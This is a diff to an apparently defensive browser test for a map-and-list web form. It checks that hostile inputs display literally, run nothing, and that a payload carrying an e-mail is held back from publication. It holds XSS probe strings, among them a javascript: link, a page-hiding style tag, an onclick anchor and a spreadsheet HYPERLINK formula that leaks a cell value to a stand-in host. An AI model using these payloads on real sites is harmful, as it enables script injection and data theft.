@@ -134,6 +134,9 @@ PAYLOADS: list[tuple[str, str]] = [
 # Sent with a pin in the plan area, so they are also in the map's popups.
 PINNED = {"script tag", "img onerror", "svg onload", "attribute break-out", "</script> in JSON",
           "markup + e-mail"}  # fmt: skip
+# Held for a planner (issue 21: personal data is never published by itself): not in the
+# public list nor on the map; the planner's view is another test's subject.
+HELD = {"markup + e-mail"}
 # Refused by the textarea (max_chars=2000): left as it was, nothing cut in two.
 REFUSED_BY_TEXTAREA = [
     ("10,000 emoji", "".join(ASTRAL_EMOJI[i % len(ASTRAL_EMOJI)] for i in range(10_000))),
@@ -445,8 +448,11 @@ def test_hostile_payloads_sent_through_the_form_show_as_typed_and_run_nothing(
     time.sleep(0.5)  # an injected <img src=x> or tracker would have errored/loaded by now
 
     main_text = _norm(page.locator('[data-testid="stMain"]').inner_text())
-    literal = {name: _norm(_shown(text)) in main_text for name, text in PAYLOADS}
+    literal = {name: _norm(_shown(text)) in main_text for name, text in PAYLOADS if name not in HELD}
     for name, text in PAYLOADS:
+        if name in HELD:
+            assert refs[name] not in main_text, f"{name}: {refs[name]} was published by itself"
+            continue
         assert refs[name] in main_text, f"{name}: {refs[name]} is not in the list"
     # A few the way a reader finds them.
     for piece in (
@@ -458,7 +464,6 @@ def test_hostile_payloads_sent_through_the_form_show_as_typed_and_run_nothing(
         "$$\\href{javascript:alert('xss-21')}{klikk}$$",
         "<style>body{display:none}</style>",
         '=HYPERLINK("http://127.0.0.2/?leak="&A1;"klikk xss-26")',
-        f'<a href="mailto:{MASKED}" onclick="window.__xss=37">xss-37</a>',
     ):
         expect(page.get_by_text(piece, exact=False).first).to_be_visible()
     # Format characters (Cf) are kept as typed; control characters (Cc) are dropped.
@@ -471,7 +476,7 @@ def test_hostile_payloads_sent_through_the_form_show_as_typed_and_run_nothing(
     map_frame = _map_frame(page)
     fl = page.frame_locator(MAP_IFRAME).first
     for name, text in PAYLOADS:
-        if name not in PINNED:
+        if name not in PINNED or name in HELD:
             continue
         map_frame.wait_for_function(_SHOW_MARKER, arg=refs[name], polling=250)
         fl.locator('[data-test="marker"]').dispatch_event("click")
@@ -527,7 +532,7 @@ def test_hostile_payloads_sent_through_the_form_show_as_typed_and_run_nothing(
     for name, _ in PAYLOADS:
         popup = {True: "literal", False: "NOT LITERAL"}.get(popups.get(name), "")
         print(f"{name:<24} {refs[name]:<10} {'YES' if executed[name] else 'no':<9} "
-              f"{'yes' if literal[name] else 'NO':<8} {'YES' if markup[name] else 'no':<7} "
+              f"{'held' if name in HELD else 'yes' if literal[name] else 'NO':<8} {'YES' if markup[name] else 'no':<7} "
               f"{popup}")  # fmt: skip
     print(f"tried {len(PAYLOADS)}, executed {sum(executed.values())}, "
           f"shown literally {sum(literal.values())}, became markup "
